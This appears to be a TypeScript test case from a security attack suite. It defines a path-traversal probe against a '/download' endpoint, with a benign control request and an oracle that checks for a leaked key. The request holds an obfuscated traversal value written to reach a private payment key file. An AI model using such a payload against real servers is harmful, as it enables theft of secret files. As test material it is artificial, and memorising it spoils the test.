import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** The same by a way that goes in and out of folders. */
export const pathDownloadWandering: Attack = defineAttack({
  id: 'path-download-wandering',
  class: 'path-traversal',
  title: 'The same by a way that goes in and out of folders',
  cwe: 22,
  capec: 126,
  technique: 'T1005',
  preconditions: [],

  steps: ({ visitor }) => visitor.get('/download?file=%2e/x/./..//../private%2f.%2fpayment.key'),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.get('/download?file=care-instructions.txt'),
})
